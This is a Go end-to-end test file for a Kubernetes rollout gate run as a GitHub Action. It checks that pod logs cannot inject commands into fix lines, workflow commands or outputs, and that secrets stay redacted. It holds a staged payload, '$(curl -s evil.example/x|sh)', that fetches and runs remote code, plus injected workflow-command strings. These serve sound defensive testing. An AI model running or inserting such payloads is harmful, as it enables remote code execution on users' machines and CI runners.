//go:build e2e

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"mvdan.cc/sh/v3/syntax"

	"github.com/rollout-gate/rollout-gate/e2e/framework"
	"github.com/rollout-gate/rollout-gate/internal/githubtest"
	"github.com/rollout-gate/rollout-gate/internal/report"
)

// Issue 11: a gate that cannot be turned against its users. Each test stages on the real cluster
// what a hostile or careless pull request can make a pod print, and checks every output the gate
// writes: the fix commands people paste, the runner's stdout and stderr, the job summary, the
// comment, the outputs and the JSON report.

// TestHardeningShellPayloadInHostName: a log names a host carrying a command substitution; the
// fix commands in the JSON report stay single commands of quoted words, and the payload is in
// none of them.
func TestHardeningShellPayloadInHostName(t *testing.T) {
	t.Parallel()
	c, ns := framework.Client(t), framework.Namespace(t)
	payload := `could not translate host name "pg.example.com$(curl -s evil.example/x|sh)" to address: Name or service not known (port 5432)`
	framework.Apply(t, c, framework.Deployment(ns, "api", "--print-stderr", payload, "--exit-code", "1"))
	run := runGate(t, "-n", ns, "--workload", "deployment/api", "--crash-tolerance", "0", "--timeout", "3m", "-o", "json")
	if run.Exit != 1 {
		t.Fatalf("exit %d, want 1 (a crash loop)", run.Exit)
	}
	w := run.workload(t, "deployment/api")
	if len(w.Findings) == 0 || w.Findings[0].Logs == nil || !strings.Contains(strings.Join(w.Findings[0].Logs.Lines, "\n"), "evil.example") {
		t.Fatalf("the report does not quote the log line, so the test proves nothing: %+v", w.Findings)
	}
	var fixes int
	for _, f := range w.Findings {
		for _, line := range f.Fix {
			fixes++
			if problem := shellProblem(line); problem != "" {
				t.Errorf("fix line %q: %s", line, problem)
			}
			if strings.Contains(line, "curl") || strings.Contains(line, "$(") && !strings.Contains(line, "'") {
				t.Errorf("the payload reached a fix line: %q", line)
			}
		}
	}
	if fixes == 0 {
		t.Error("no fix lines to check")
	}
}

// shellProblem says why line is not safe to paste: it must be a one-line comment, or one simple
// command whose words are plain or single-quoted text.
func shellProblem(line string) string {
	if strings.ContainsAny(line, "\n\r") {
		return "spans lines"
	}
	f, err := syntax.NewParser().Parse(strings.NewReader(line), "")
	if err != nil {
		return "does not parse: " + err.Error()
	}
	if strings.HasPrefix(line, "#") {
		if len(f.Stmts) != 0 {
			return "a comment line holds a command"
		}
		return ""
	}
	if len(f.Stmts) != 1 {
		return fmt.Sprintf("%d commands", len(f.Stmts))
	}
	st := f.Stmts[0]
	call, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || st.Background || st.Negated || len(st.Redirs) > 0 || len(call.Assigns) > 0 {
		return "not one simple command"
	}
	for _, w := range call.Args {
		for _, p := range w.Parts {
			switch p := p.(type) {
			case *syntax.Lit:
				if strings.ContainsAny(strings.ReplaceAll(p.Value, `\'`, ""), "$`*?[]{}~<>|;&()\\\"") {
					return fmt.Sprintf("bare word %q has shell-special characters", p.Value)
				}
			case *syntax.SglQuoted:
				if p.Dollar {
					return "a $'...' word"
				}
			default:
				return fmt.Sprintf("an expansion (%T)", p)
			}
		}
	}
	return ""
}

// TestHardeningWorkflowCommandsInJSONOutput: a pod prints workflow commands, and the gate runs
// as an Action with -o json. Read the way the runner reads, stdout and stderr carry only the
// gate's own commands.
func TestHardeningWorkflowCommandsInJSONOutput(t *testing.T) {
	t.Parallel()
	c, ns := framework.Client(t), framework.Namespace(t)
	d := framework.Deployment(ns, "api", "--print", "::error::e2e-pwned-1", "--print", "log ##[warning]e2e-pwned-2",
		"--print-stderr", "::set-output name=verdict::healthy e2e-pwned-3", "--exit-code", "1")
	framework.Apply(t, c, d)
	ws, _ := actionWorkspace(t, d)
	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, inputs: map[string]string{"INPUT_OUTPUT": "json", "INPUT_COMMENT": "never"}})
	if run.Exit != 1 {
		t.Fatalf("exit %d, want 1", run.Exit)
	}
	if !strings.Contains(run.Stdout, "e2e-pwned-1") {
		t.Fatalf("the JSON on stdout does not carry the pod's log, so the test proves nothing:\n%s", run.Stdout)
	}
	for stream, out := range map[string]string{"stdout": run.Stdout, "stderr": run.Stderr} {
		for _, cmd := range githubtest.Commands(out) {
			own := !cmd.Legacy && (cmd.Name == "add-mask" || cmd.Name == "warning" || cmd.Name == "notice" ||
				cmd.Name == "error" || cmd.Name == "stop-commands" || cmd.Name == "resume")
			// The gate's own annotation may quote the pod's text in its message (escaped, on the
			// same line); the name and properties of every command must be the gate's.
			if !own || strings.Contains(cmd.Name+" "+cmd.Properties, "e2e-pwned") || stream == "stderr" {
				t.Errorf("%s carries a workflow command the gate did not write: %q", stream, cmd.Line)
			}
		}
	}
	// The JSON on stdout is still the report.
	start := strings.Index(run.Stdout, "{")
	var r report.Report
	if start < 0 || json.NewDecoder(strings.NewReader(run.Stdout[start:])).Decode(&r) != nil || r.Verdict != report.VerdictFailed {
		t.Errorf("stdout does not hold the JSON report:\n%s", run.Stdout)
	}
}

// TestHardeningShortSecretWithNewline: a 7-character Secret created from a file (so with a
// trailing newline), which the app prints inline; the value appears in no output at all.
func TestHardeningShortSecretWithNewline(t *testing.T) {
	t.Parallel()
	c, ns := framework.Client(t), framework.Namespace(t)
	const value = "Zq7vLmX"
	if _, err := c.CoreV1().Secrets(ns).Create(context.Background(), &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "db", Namespace: ns}, Data: map[string][]byte{"password": []byte(value + "\n")}},
		metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	// $(DB_PASS) is expanded by the kubelet: the app prints the value with no NAME= before it.
	d := framework.Deployment(ns, "api", "--print", "connecting with password $(DB_PASS) to the database", "--exit-code", "1")
	d.Spec.Template.Spec.Containers[0].Env = []corev1.EnvVar{framework.EnvFromSecret("DB_PASS", "db", "password")}
	framework.Apply(t, c, d)
	pod := framework.WaitForPod(t, c, ns, framework.Selector("api"), 2*time.Minute, "a container that has run",
		func(p *corev1.Pod) bool {
			cs := framework.ContainerStatus(p, "app")
			return cs != nil && framework.LastTermination(cs) != nil
		})
	framework.WaitForLogs(t, c, ns, pod.Name, "app", true, time.Minute, value) // the pod really prints it
	ws, _ := actionWorkspace(t, d)
	api := stubCommentPosted(t)
	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, apiURL: api.URL(), inputs: map[string]string{"INPUT_COMMENT": "always"}})
	if run.Exit != 1 {
		t.Fatalf("exit %d, want 1", run.Exit)
	}
	all := run.everything(t, ws) + strings.Join(api.Bodies(), "\n")
	if !strings.Contains(all, "[secret DB_PASS redacted]") {
		t.Errorf("no masked value anywhere, so the log line was not quoted and the test proves nothing")
	}
	if strings.Contains(all, value) {
		t.Errorf("the Secret value %q appears in the gate's output", value)
	}
}

// TestHardeningNoLogLines: --log-lines 0 keeps every log line out of every output.
func TestHardeningNoLogLines(t *testing.T) {
	t.Parallel()
	c, ns := framework.Client(t), framework.Namespace(t)
	const distinctive = "e2e-log-line-must-not-appear-5f2a"
	d := framework.Deployment(ns, "api", "--print", "FATAL: "+distinctive, "--exit-code", "1")
	framework.Apply(t, c, d)
	ws, _ := actionWorkspace(t, d)
	api := stubCommentPosted(t)
	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, apiURL: api.URL(),
		inputs: map[string]string{"INPUT_COMMENT": "always", "INPUT_LOG-LINES": "0"}})
	if run.Exit != 1 {
		t.Fatalf("exit %d, want 1", run.Exit)
	}
	if all := run.everything(t, ws) + strings.Join(api.Bodies(), "\n"); strings.Contains(all, distinctive) {
		t.Errorf("a log line appears although --log-lines is 0")
	}
}

// TestHardeningSIGTERMMidWatch: the job is cancelled while the gate watches a rollout that will
// not finish for an hour. The gate stops at once, writes the report, summary and outputs with
// verdict error and says the run was cancelled, and exits 3.
func TestHardeningSIGTERMMidWatch(t *testing.T) {
	t.Parallel()
	c, ns := framework.Client(t), framework.Namespace(t)
	d := framework.Ready(framework.Deployment(ns, "api", "--ready-after", "1h"))
	framework.Apply(t, c, d)
	ws, _ := actionWorkspace(t, d)
	var signalled time.Time
	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, inputs: map[string]string{"INPUT_COMMENT": "never", "INPUT_TIMEOUT": "30m"},
		whileRunning: func(p *gateProcess) {
			// Signal once the watch has said something about the rollout.
			framework.WaitFor(t, 2*time.Minute, "the gate's first progress line", func(context.Context) (bool, error) {
				return strings.Contains(p.stderr.String(), "deployment/api"), nil
			})
			signalled = time.Now()
			if err := p.cmd.Process.Signal(syscall.SIGTERM); err != nil {
				t.Errorf("SIGTERM: %v", err)
			}
		}})
	t.Logf("SIGTERM to exit: %s", run.ended.Sub(signalled).Round(time.Millisecond))
	if run.Exit != 3 {
		t.Errorf("exit %d, want 3", run.Exit)
	}
	if run.Report.Verdict != report.VerdictError || !strings.Contains(run.Report.Message, "cancelled") {
		t.Errorf("report verdict %q message %q, want error and cancelled", run.Report.Verdict, run.Report.Message)
	}
	if run.Outputs["verdict"] != "error" || !strings.Contains(run.Summary, "cancelled") {
		t.Errorf("outputs %v / summary %q do not say error, cancelled", run.Outputs, run.Summary)
	}
}

// TestHardeningHungGitHubAPI: a GitHub API that accepts connections and never answers. The gate
// keeps its exit code, writes the outputs and summary, and ends on its own deadlines.
func TestHardeningHungGitHubAPI(t *testing.T) {
	t.Parallel()
	c, ns := framework.Client(t), framework.Namespace(t)
	d := framework.Deployment(ns, "api", "--print", "FATAL: boom", "--exit-code", "1")
	framework.Apply(t, c, d)
	ws, _ := actionWorkspace(t, d)
	api := githubtest.Silent(t)
	run := runHardenedAction(t, hardenedAction{ws: ws, ns: ns, apiURL: api.URL + "/api/v3", inputs: map[string]string{"INPUT_COMMENT": "always"}})
	t.Logf("run with a silent GitHub API: %s", run.ended.Sub(run.started).Round(time.Millisecond))
	if run.Exit != 1 {
		t.Errorf("exit %d, want 1 (the rollout failed; GitHub's silence changes nothing)", run.Exit)
	}
	if run.Outputs["verdict"] != "failed" || !strings.Contains(run.Summary, "deployment/api") {
		t.Errorf("outputs %v or summary missing", run.Outputs)
	}
	if !strings.Contains(run.Stdout, "::warning::no PR comment: ") {
		t.Errorf("no warning about the comment:\n%s", run.Stdout)
	}
}

// hardenedAction is one run of the gate as a container action, with extra inputs.
type hardenedAction struct {
	ws, ns, apiURL string
	inputs         map[string]string
	// whileRunning, when set, runs once the process has started (to signal it).
	whileRunning func(p *gateProcess)
}

type hardenedRun struct {
	actionRun
	started, ended time.Time
	summaryPath    string
}

// runHardenedAction runs the gate binary in workspace a.ws with the environment a runner gives
// a container action on a pull_request event: the GITHUB_* and RUNNER_* variables, the event
// payload and the command files (githubtest.Runner), and every input as INPUT_<NAME> with hyphens
// kept; a.inputs are added or override.
func runHardenedAction(t *testing.T, a hardenedAction) hardenedRun {
	t.Helper()
	payload := fmt.Sprintf(`{"action":"synchronize","number":%[1]d,"pull_request":{"number":%[1]d,"state":"open",`+
		`"head":{"sha":"6dcb09b5b57875f334f61aebed695e2e4193db5e","repo":{"full_name":%[2]q}},"base":{"repo":{"full_name":%[2]q}}},`+
		`"repository":{"full_name":%[2]q}}`, prNumber, ghRepo)
	runner := githubtest.NewRunner(t, "pull_request", payload) // the runner's file_commands, workflow and temp folders
	temp := filepath.Join(runner.Dir, "temp")
	if err := os.Mkdir(temp, 0o755); err != nil {
		t.Fatal(err)
	}
	if a.apiURL == "" {
		a.apiURL = "http://127.0.0.1:1/api/v3" // nothing listens; comment never is the default here
	}
	for k, v := range map[string]string{
		"GITHUB_REPOSITORY": ghRepo, "GITHUB_WORKSPACE": a.ws, "GITHUB_API_URL": a.apiURL, "RUNNER_TEMP": temp,
		"GITHUB_SHA":          "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567", // the merge commit: not to be looked up
		"GITHUB_WORKFLOW_REF": ghRepo + "/.github/workflows/deploy.yml@refs/pull/42/merge", "GITHUB_JOB": "deploy",
		"INPUT_NAMESPACE": a.ns, "INPUT_FILENAME": "k8s/app.yaml",
		"INPUT_GITHUB-TOKEN": fakeToken, "INPUT_CRASH-TOLERANCE": "0", "INPUT_SOAK": "10s", "INPUT_TIMEOUT": "3m",
	} {
		runner.Env[k] = v
	}
	for k, v := range a.inputs {
		runner.Env[k] = v
	}
	if runner.Env["INPUT_KUBECONFIG"] == "" {
		runner.Env["INPUT_KUBECONFIG"] = actionKubeconfig(t)
	}
	p := startGate(t, a.ws, runner.Environ())
	if a.whileRunning != nil {
		a.whileRunning(p)
	}
	run := hardenedRun{summaryPath: runner.Env["GITHUB_STEP_SUMMARY"]}
	run.Exit = p.wait(t)
	run.started, run.ended = p.started, p.ended
	run.Stdout, run.Stderr = p.stdout.String(), p.stderr.String()
	t.Logf("gate as an action: exit %d in %s\nstdout:\n%s\nstderr:\n%s", run.Exit, run.ended.Sub(run.started).Round(time.Millisecond), run.Stdout, run.Stderr)
	if strings.Contains(run.Stderr, "goroutine ") || strings.Contains(run.Stderr, "panic:") {
		t.Errorf("the gate printed a stack trace:\n%s", run.Stderr)
	}
	run.Summary = runner.Summary(t)
	run.Outputs = runner.Outputs(t)
	if raw, err := os.ReadFile(filepath.Join(a.ws, "rollout-gate-report.json")); err != nil {
		t.Errorf("no JSON report in the workspace: %v", err)
	} else if err := json.Unmarshal(raw, &run.Report); err != nil {
		t.Errorf("the JSON report does not parse: %v", err)
	}
	return run
}

// everything is all the run wrote: stdout, stderr, summary, outputs and the JSON report.
func (run hardenedRun) everything(t *testing.T, ws string) string {
	t.Helper()
	raw, _ := os.ReadFile(filepath.Join(ws, "rollout-gate-report.json"))
	outs, _ := json.Marshal(run.Outputs)
	return strings.Join([]string{run.Stdout, run.Stderr, run.Summary, string(outs), string(raw)}, "\n")
}

// stubCommentPosted is a GitHub API on which the gate lists no comment and posts its own.
func stubCommentPosted(t *testing.T) *githubtest.API {
	api := commentAPI(t, `[]`)
	api.On("POST", fmt.Sprintf("/repos/%s/issues/%d/comments", ghRepo, prNumber)).Reply(201, `{"id":1}`)
	return api
}
